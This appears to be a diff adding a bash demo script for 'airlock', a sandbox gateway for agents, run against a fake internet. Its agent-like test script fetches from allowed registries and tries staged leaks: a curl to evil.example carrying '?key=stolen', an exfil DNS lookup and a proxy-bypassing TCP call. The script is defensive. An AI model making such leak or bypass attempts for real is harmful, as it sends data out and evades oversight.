@@ -1,0 +1,63 @@
+#!/usr/bin/env bash
+# make demo: airlock's main job, offline. A fake internet (namespace + DNS + HTTPS
+# servers for pypi.org, registry.npmjs.org, github.com, evil.example ...) stands in
+# for the real one; `airlock run` starts a sandbox whose only way out is the
+# gateway, an agent-like script fetches what it may and tries what it may not,
+# and the tamper-evident audit log is verified and queried at the end.
+set -euo pipefail
+cd "$(dirname "$0")/.."
+[ "$(id -u)" = 0 ] || { echo "demo: needs root (namespaces, cgroups, iptables): sudo make demo" >&2; exit 1; }
+
+bin=${AIRLOCK_BIN:-bin/airlock}
+work=$(mktemp -d /tmp/airlock-demo.XXXXXX)
+chmod 755 "$work"
+fakepid=""
+cleanup() {
+	[ -n "$fakepid" ] && kill "$fakepid" 2>/dev/null && wait "$fakepid" 2>/dev/null
+	rm -rf "$work"
+}
+trap cleanup EXIT
+
+go build -o "$work/fakenet" ./test/cmd/fakenet
+"$work/fakenet" --dir "$work" &
+fakepid=$!
+for _ in $(seq 100); do [ -f "$work/fakenet.env" ] && break; sleep 0.1; done
+[ -f "$work/fakenet.env" ] || { echo "demo: fake internet did not start" >&2; exit 1; }
+# shellcheck disable=SC1091
+. "$work/fakenet.env"
+
+"$bin" ca init --dir "$work/ca" >/dev/null
+cat >"$work/airlock.yaml" <<YAML
+policy: {mode: enforce, presets: [python, node, go, github]}
+dns: {upstreams: ["$FAKENET_DNS"]}
+upstream: {allow_cidrs: ["$FAKENET_CIDR"], ca_file: "$FAKENET_CA"}
+audit: {file: $work/audit.jsonl}
+ca: {cert: $work/ca/ca.pem, key: $work/ca/ca.key}
+limits: {memory: 256M, pids: 128, timeout: 60s}
+YAML
+
+step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+step "airlock run: an agent fetches from registries and tries to leak"
+set +e
+"$bin" run --config "$work/airlock.yaml" -- sh -c '
+  echo "# GET https://pypi.org/simple/requests/ (preset python, read-only)"
+  curl -sS --max-time 10 https://pypi.org/simple/requests/
+  echo "# GET https://registry.npmjs.org/left-pad (preset node)"
+  curl -sS --max-time 10 https://registry.npmjs.org/left-pad
+  echo "# POST https://pypi.org/legacy/ (registries are read-only)"
+  curl -sS --max-time 10 -o /dev/null -w "%{http_code}\n" -X POST -d x=1 https://pypi.org/legacy/
+  echo "# GET https://evil.example/ (not allowed)"
+  curl -sS --max-time 10 https://evil.example/?key=stolen || true
+  echo "# DNS lookup of secret-data.exfil.example (never forwarded)"
+  getent hosts secret-data.exfil.example || echo "not resolved"
+  echo "# direct TCP to the fake internet, bypassing the proxy"
+  curl -sS --noproxy "*" --max-time 5 http://'"$FAKENET_HOST_EXFIL_EXAMPLE"'/ || true
+'
+code=$?
+set -e
+echo "(exit code $code)"
+
+step "airlock audit verify"
+"$bin" audit verify "$work/audit.jsonl"
+step "airlock audit query --decision deny"
+"$bin" audit query --file "$work/audit.jsonl" --decision deny --format table
